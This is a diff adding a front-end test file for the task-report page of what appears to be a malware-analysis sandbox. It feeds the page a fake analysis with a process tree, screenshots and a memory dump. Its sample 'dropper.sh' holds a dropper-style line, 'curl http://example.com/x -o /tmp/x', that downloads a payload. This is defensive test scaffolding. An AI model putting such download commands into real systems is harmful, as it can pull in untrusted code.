@@ -1,0 +1,135 @@
+// @vitest-environment jsdom
+// The Task page against a real service whose engine processed a real analysis folder (made here:
+// a process tree, a dropped file, two JPEG screenshots, a memory dump) into report.json with
+// Aviary's own pipeline: overview from /tasks/summary, full report for screenshots and memory,
+// API URLs for images and downloads, and the actions.
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
+import { mkdirSync, writeFileSync } from 'node:fs'
+import path from 'node:path'
+import sharp from 'sharp'
+import { cleanup, render, screen, within } from '@testing-library/react'
+import userEvent from '@testing-library/user-event'
+import { QueryClient, QueryClientProvider } from '@tanstack/react-query'
+import { MemoryRouter, Route, Routes } from 'react-router'
+import { startHarness, type Harness } from '../../../../test/service-harness'
+import { setLocalApiBase } from '../api/http'
+import { TaskPage } from './Task'
+
+let h: Harness
+let id: number
+
+async function waitForTask(_: Harness, task: number, states: string[], ms: number): Promise<string> {
+  const deadline = Date.now() + ms
+  for (;;) {
+    const { task: t } = (await (await fetch(`${h.url}/tasks/view/${task}`)).json()) as { task: { status: string } }
+    if (states.includes(t.status) || Date.now() > deadline) return t.status
+    await new Promise((r) => setTimeout(r, 200))
+  }
+}
+
+/** multipart/form-data by hand: jsdom's FormData and Blob are not the ones Node's fetch takes. */
+async function submit(name: string, content: string): Promise<number> {
+  const b = '----aviarytest'
+  const body = `--${b}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n${content}\r\n--${b}--\r\n`
+  const res = await fetch(`${h.url}/tasks/create/file`, { method: 'POST', body, headers: { 'Content-Type': `multipart/form-data; boundary=${b}` } })
+  const out = (await res.json()) as { task_id?: number }
+  if (typeof out.task_id !== "number") throw new Error(`submit: ${res.status} ${JSON.stringify(out)}`)
+  return out.task_id
+}
+
+beforeAll(async () => {
+  h = await startHarness({ engine: true, machines: { machines: [] } })
+  setLocalApiBase(h.url)
+  id = await submit('dropper.sh', '#!/bin/sh\ncurl http://example.com/x -o /tmp/x\n')
+  const dir = h.analysisDir(id)
+  const now = Date.now()
+  const jpeg = await sharp({ create: { width: 8, height: 6, channels: 3, background: '#c00' } }).jpeg().toBuffer()
+  const files: Record<string, string | Buffer> = {
+    'logs/behavior.jsonl': [
+      { type: 'analyzer', version: 1, package: 'sh', task: id, time: now },
+      { type: 'process', pid: 10, ppid: 1, command_line: 'sh /tmp/dropper.sh', exe: '/bin/sh', first_seen: now, exited: now + 5 },
+      { type: 'process', pid: 11, ppid: 10, command_line: 'curl http://example.com/x -o /tmp/x', exe: '/usr/bin/curl', first_seen: now + 1, exited: now + 3 }
+    ].map((e) => JSON.stringify(e)).join('\n') + '\n',
+    'files/0123456789abcdef_x': 'MZ dropped payload',
+    'files.json': JSON.stringify({ path: 'files/0123456789abcdef_x', filepath: '/tmp/x', pids: [11] }) + '\n',
+    'shots/0001.jpg': jpeg, 'shots/0002.jpg': jpeg,
+    'memory/11-1.dmp': Buffer.alloc(4096, 1)
+  }
+  for (const [rel, content] of Object.entries(files)) {
+    mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true })
+    writeFileSync(path.join(dir, rel), content)
+  }
+  h.sql("UPDATE tasks SET status = 'completed', started_on = datetime('now', 'localtime'), completed_on = datetime('now', 'localtime') WHERE id = ?", id)
+  h.service.engine!.processPending()
+  expect(await waitForTask(h, id, ['reported', 'failed_processing'], 30_000)).toBe('reported')
+})
+afterAll(async () => h?.stop())
+afterEach(cleanup)
+
+function page(at: string) {
+  const qc = new QueryClient({ defaultOptions: { queries: { retry: false } } })
+  return render(
+    <QueryClientProvider client={qc}>
+      <MemoryRouter initialEntries={[at]}>
+        <Routes><Route path="/tasks/:id" element={<TaskPage />} /><Route path="/tasks" element={<p>task list</p>} /></Routes>
+      </MemoryRouter>
+    </QueryClientProvider>
+  )
+}
+
+describe('Task page', () => {
+  it('shows the summary of a real report, then the tabs that need the full report', async () => {
+    const user = userEvent.setup()
+    page(`/tasks/${id}`)
+    expect(await screen.findByRole('heading', { name: 'dropper.sh' })).toBeTruthy()
+    expect(screen.getByText('reported')).toBeTruthy()
+    expect(screen.getByRole('link', { name: 'download dump.pcap' }).getAttribute('href')).toBe(`${h.url}/pcap/get/${id}`)
+
+    await user.click(screen.getByRole('tab', { name: 'Behavior' }))
+    const tree = screen.getByRole('tree', { name: 'Process tree' })
+    expect(within(tree).getByText('curl http://example.com/x -o /tmp/x')).toBeTruthy()
+    await user.click(within(tree).getByRole('button', { name: 'Collapse pid 10' }))
+    expect(within(tree).queryByText('curl http://example.com/x -o /tmp/x')).toBeNull()
+
+    await user.click(screen.getByRole('tab', { name: 'Dropped' }))
+    expect(screen.getByText('/tmp/x')).toBeTruthy()
+    expect(screen.getByRole('link', { name: /every dropped file/ }).getAttribute('href')).toBe(`${h.url}/tasks/report/${id}/dropped`)
+
+    await user.click(screen.getByRole('tab', { name: 'Screenshots' }))
+    const thumbs = await screen.findAllByRole('button', { name: /^Screenshot 000\d\.jpg/ })
+    expect(thumbs).toHaveLength(2)
+    expect(thumbs[1]?.querySelector('img')?.getAttribute('src')).toBe(`${h.url}/tasks/screenshots/${id}/0002_small`)
+    // The URL really serves the JPEG.
+    expect((await fetch(`${h.url}/tasks/screenshots/${id}/0002`)).headers.get('content-type')).toMatch(/image\/jpeg/)
+
+    await user.click(screen.getByRole('tab', { name: 'Memory' }))
+    const dump = await screen.findByRole('link', { name: '11-1.dmp' })
+    expect(dump.getAttribute('href')).toBe(`${h.url}/memory/get/${id}/11-1`)
+    expect((await fetch(dump.getAttribute('href') as string)).status).toBe(200)
+
+    await user.click(screen.getByRole('tab', { name: 'Timeline' }))
+    expect(await screen.findByText('reported', { selector: 'ol span' })).toBeTruthy()
+  })
+
+  it('rereports, and deletes only after the confirmation', async () => {
+    const user = userEvent.setup()
+    page(`/tasks/${id}`)
+    await screen.findByRole('heading', { name: 'dropper.sh' })
+    await user.click(screen.getByRole('button', { name: 'Rereport' }))
+    expect(await screen.findByText('The report is being regenerated.')).toBeTruthy()
+    expect(await waitForTask(h, id, ['reported'], 30_000)).toBe('reported')
+
+    await user.click(screen.getByRole('button', { name: 'Delete…' }))
+    await user.click(screen.getByRole('button', { name: 'Cancel' }))
+    expect((await fetch(`${h.url}/tasks/view/${id}`)).status).toBe(200)
+    await user.click(screen.getByRole('button', { name: 'Delete…' }))
+    await user.click(within(screen.getByRole('alertdialog')).getByRole('button', { name: 'Delete' }))
+    expect(await screen.findByText('task list')).toBeTruthy()
+    expect((await fetch(`${h.url}/tasks/view/${id}`)).status).toBe(404)
+  })
+
+  it('shows the server\'s message for a task that does not exist', async () => {
+    page('/tasks/999999')
+    expect((await screen.findByRole('alert')).textContent).toMatch(/not found/i)
+  })
+})
